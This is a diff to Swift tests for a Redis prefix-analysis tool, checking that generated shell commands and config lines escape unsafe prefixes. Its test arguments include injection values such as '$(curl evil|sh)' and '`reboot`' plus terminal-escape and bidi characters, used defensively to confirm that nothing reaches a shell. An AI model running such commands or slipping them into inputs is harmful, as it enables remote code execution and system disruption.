@@ -78,12 +78,27 @@ struct AnalysisTests {
   }
 
   @Test func commandsAreFitForAShell() {
+    func command(_ prefix: String) -> String? {
+      Analysis.command(for: Array(prefix.utf8), at: "redis://old:6379")
+    }
+    #expect(command("user:")?.hasSuffix(" -p user:") == true)
+    #expect(command("a b$'")?.hasSuffix(" -p 'a b$'\\'''") == true)
+    #expect(command("--once:")?.hasSuffix(" --prefix=--once:") == true)
     #expect(
-      Analysis.command(for: Array("user:".utf8), at: "redis://old:6379").hasSuffix("-p user:"))
-    #expect(
-      Analysis.command(for: Array("a b$'".utf8), at: "redis://old:6379").hasSuffix("-p 'a b$'\\'''")
-    )
-    #expect(Analysis.command(for: [0xFF, 10], at: "redis://old:6379").contains("--config"))
+      Analysis.command(for: [97], at: "unix:///a;b")?.contains(" -s 'unix:///a;b' ") == true)
+  }
+
+  /// Where no command line can name a prefix none is shown: in its place stands the line of a file of options,
+  /// in which there is nothing for a shell, either.
+  @Test(arguments: [
+    [0xFF] + Array("$(curl evil|sh):".utf8), Array("a\n`reboot`:".utf8),
+    Array("\u{9B}2J!!:".utf8), Array("\u{202E}$(x)\":".utf8), Array("\u{FFFD}\\$x:".utf8),
+  ])
+  func noCommandNamesWhatIsNoText(prefix: [UInt8]) throws {
+    let line = Analysis.configLine(for: prefix)
+    #expect(try ConfigWords.split(Array(line.utf8)[...]) == [Array("prefix".utf8), prefix])
+    #expect(!line.contains { "$`!;|&()<>'".contains($0) || !$0.isASCII || $0.isNewline })
+    #expect(Analysis.command(for: prefix, at: "redis://old:6379") == nil)
   }
 
   @Test func anyBytesHaveASize() {
